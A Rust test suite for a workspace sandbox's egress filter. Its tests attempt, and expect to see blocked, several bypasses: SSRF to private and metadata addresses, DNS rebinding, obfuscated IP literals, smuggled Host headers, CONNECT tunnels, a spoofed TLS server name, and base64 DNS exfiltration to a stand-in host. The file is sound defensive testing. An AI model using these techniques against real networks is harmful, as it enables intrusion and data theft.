//! What leaves a workspace, as its policy says: each way around it that is known
//! is a test of its own.
//!
//! Servers are this test's own, on the host's loopback, under names that only the
//! operator's file of hosts knows; the operator counts the loopback as public
//! where a test says so.

mod bypasses;
mod proxy;

use std::fs;

use crate::support::operator::*;
use crate::support::*;

#[test]
fn an_allowed_name_is_reached_and_another_is_not() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n127.0.0.1 evil.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let output = talk(&workspace, "good.example", port, &get("good.example"));
    assert!(answered(&output), "{}", text(&output.stderr));
    let output = talk(&workspace, "evil.example", port, &get("evil.example"));
    assert!(!answered(&output));
    assert_denied(&workspace, "evil.example", "not among the allowed hosts");
    let entries = log(&workspace);
    let reached = entries.iter().find(|entry| entry["target"] == format!("good.example:{port}"));
    assert!(reached.unwrap()["received_bytes"].as_u64().unwrap() > 0);
}

#[test]
fn a_port_that_is_not_allowed_is_refused() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let workspace = host.create(&["--allow", "good.example:443"]);
    assert!(!answered(&talk(&workspace, "good.example", port, &get("good.example"))));
    assert_denied(&workspace, &format!("good.example:{port}"), "not at port");
}

#[test]
fn a_name_that_leads_to_a_private_address_is_refused_even_if_it_is_allowed() {
    let host = Host::counting("").knows(
        "127.0.0.1 rebound.example\n10.0.0.1 inner.example\n169.254.169.254 meta.example\n\
         ::ffff:127.0.0.1 mapped.example\n64:ff9b::7f00:1 translated.example\n",
    );
    let workspace = host.create(&["--network", "egress"]);
    for name in
        ["rebound.example", "inner.example", "meta.example", "mapped.example", "translated.example"]
    {
        assert!(!answered(&talk(&workspace, name, 80, &get(name))));
        assert_denied(&workspace, name, "not public");
    }
}

#[test]
fn a_name_that_turns_private_after_it_was_looked_up_is_not_followed() {
    let port = serve("hello");
    // An address at which nothing listens counts as public, the server's does not.
    let host = Host::counting("127.0.0.2/32").knows("127.0.0.2 turning.example\n");
    let workspace = host.create(&["--network", "egress"]);
    assert!(workspace.script("getent hosts turning.example").contains("turning.example"));
    fs::write(host.hosts(), "127.0.0.1 turning.example\n").unwrap();
    assert!(!answered(&talk(&workspace, "turning.example", port, &get("turning.example"))));
    let target = format!("turning.example:{port}");
    let followed = log(&workspace).iter().any(|entry| {
        entry["target"] == target && (entry["verdict"] == "closed" || entry["verdict"] == "open")
    });
    assert!(!followed, "{:#?}", log(&workspace));
}

#[test]
fn literal_addresses_that_are_not_public_are_reset_however_they_are_written() {
    let port = serve("hello");
    let host = Host::counting("").knows("");
    let workspace = host.create(&["--network", "egress"]);
    for (address, told) in [
        ("10.1.2.3", "10.1.2.3"),
        ("192.168.1.1", "192.168.1.1"),
        ("100.64.0.1", "100.64.0.1"),
        ("169.254.169.254", "169.254.169.254"),
        ("0x0a010203", "10.1.2.3"),
        ("167838211", "10.1.2.3"),
        ("64:ff9b::7f00:1", "[64:ff9b::7f00:1]"),
        ("2002:7f00:1::1", "[2002:7f00:1::1]"),
        ("fd00:ec2::254", "[fd00:ec2::254]"),
        ("fe80::a9fe:a9fe%hotcell0", "[fe80::a9fe:a9fe]"),
    ] {
        assert!(!answered(&talk(&workspace, address, port, &get("x.example"))), "{address}");
        assert_denied(&workspace, &format!("{told}:{port}"), "not public");
    }
    // The guest's own loopback is its own: the host's is not there.
    assert!(!answered(&talk(&workspace, "127.0.0.1", port, &get("x.example"))));
}

#[test]
fn a_literal_address_that_is_not_on_the_list_is_reset() {
    let port = serve("hello");
    let host = Host::counting("203.0.113.0/24,127.0.0.0/8").knows("");
    let workspace = host.create(&["--allow", "good.example"]);
    assert!(!answered(&talk(&workspace, "203.0.113.7", port, &get("good.example"))));
    assert_denied(&workspace, &format!("203.0.113.7:{port}"), "not among the allowed hosts");
}

#[test]
fn an_address_for_which_no_name_was_looked_up_is_reset() {
    let host = Host::counting(LOOPBACK).knows("");
    let workspace = host.create(&["--network", "egress"]);
    assert!(!answered(&talk(&workspace, "198.18.9.9", 80, &get("good.example"))));
    assert_denied(&workspace, "198.18.9.9:80", "no name was looked up");
}

#[test]
fn a_request_for_another_host_is_not_passed_on() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let target = format!("good.example:{port}");
    assert!(!answered(&talk(&workspace, "good.example", port, &get("evil.example"))));
    assert_denied(&workspace, &target, "for the host evil.example");
    // Behind an honest request on the same connection.
    let second = format!("{}{}", get("good.example"), get("worse.example"));
    let _ = talk(&workspace, "good.example", port, &second);
    assert_denied(&workspace, &target, "for the host worse.example");
    let absolute = "GET http://other.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n";
    assert!(!answered(&talk(&workspace, "good.example", port, absolute)));
    assert_denied(&workspace, &target, "for the host other.example");
}

#[test]
fn a_tunnel_through_an_allowed_host_is_refused() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let tunnel = "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n";
    assert!(!answered(&talk(&workspace, "good.example", port, tunnel)));
    assert_denied(&workspace, &format!("good.example:{port}"), "tunnel");
}

#[test]
fn a_tls_client_that_names_another_server_is_reset() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let extension = "\\0\\0\\0\\021\\0\\017\\0\\0\\014evil.example";
    let body =
        format!("\\003\\003{}\\0\\0\\002\\023\\001\\001\\0\\0\\025{extension}", "a".repeat(32));
    let hello = format!("\\026\\003\\001\\0\\104\\001\\0\\0\\100{body}");
    assert!(!answered(&talk(&workspace, "good.example", port, &hello)));
    assert_denied(&workspace, &format!("good.example:{port}"), "TLS client");
}

#[test]
fn names_that_are_not_allowed_tell_nobody_anything() {
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let secret = "c2VjcmV0.tunnel.example";
    assert_ne!(workspace.exec(&[], &["getent", "hosts", secret]).status.code(), Some(0));
    assert_denied(&workspace, "c2vjcmv0.tunnel.example", "not among the allowed hosts");
    // A list with one name allows nothing below it.
    let below = "c2vjcmv0.good.example";
    assert_ne!(workspace.exec(&[], &["getent", "hosts", below]).status.code(), Some(0));
    assert_denied(&workspace, below, "not among the allowed hosts");
}

#[test]
fn what_is_no_longer_allowed_ends_at_once() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let script = format!(
        "exec 3<>/dev/tcp/good.example/{port}; printf '{}' >&3; head -c 19 <&3; echo open; cat <&3",
        get("good.example")
    );
    let mut command = workspace.exec_command(&[], &["bash", "-c", &script]);
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_word(&mut child, "open");
    let set = |policy: &[&str]| {
        let output =
            host.command().args(["network", "set", &workspace.id]).args(policy).output().unwrap();
        assert_code(&output, 0);
    };
    set(&["--allow", "other.example"]);
    let output = child.wait_with_output().unwrap();
    assert!(text(&output.stderr).contains("reset"), "{}", text(&output.stderr));
    assert_denied(&workspace, &format!("good.example:{port}"), "no longer allows");
    set(&["--network", "off"]);
    let off = workspace.exec(&[], &["bash", "-c", "exec 3<>/dev/tcp/93.184.216.34/80"]);
    assert!(text(&off.stderr).contains("unreachable"), "{}", text(&off.stderr));
    set(&["--allow", "good.example"]);
    assert!(answered(&talk(&workspace, "good.example", port, &get("good.example"))));
}

#[test]
fn a_killed_daemon_comes_back_and_nothing_passes_meanwhile() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n127.0.0.1 evil.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    workspace.script("pkill -KILL -x tools; true");
    assert!(!answered(&talk(&workspace, "evil.example", port, &get("evil.example"))));
    eventually("the daemon is back", || {
        answered(&talk(&workspace, "good.example", port, &get("good.example")))
    });
}

#[test]
fn the_network_is_there_for_the_first_command_after_a_reset_and_a_start() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n127.0.0.1 evil.example\n");
    let workspace = host.create(&["--allow", "good.example"]);
    let reaches = |name: &str| answered(&talk(&workspace, name, port, &get(name)));
    assert!(reaches("good.example"));
    for verbs in [&["reset"][..], &["reset"], &["stop", "start"]] {
        for verb in verbs {
            let output =
                host.command().args(["--yes", "workspace", verb, &workspace.id]).output().unwrap();
            assert_code(&output, 0);
        }
        assert!(reaches("good.example"), "after {verbs:?}");
        assert!(!reaches("evil.example"), "after {verbs:?}");
    }
}

#[test]
fn workspaces_do_not_share_what_they_may_reach() {
    let port = serve("hello");
    let host = Host::counting(LOOPBACK).knows("127.0.0.1 good.example\n");
    let open = host.create(&["--allow", "good.example"]);
    let closed = host.create(&[]);
    assert!(answered(&talk(&open, "good.example", port, &get("good.example"))));
    assert!(!answered(&talk(&closed, "good.example", port, &get("good.example"))));
    assert!(log(&closed).is_empty());
}
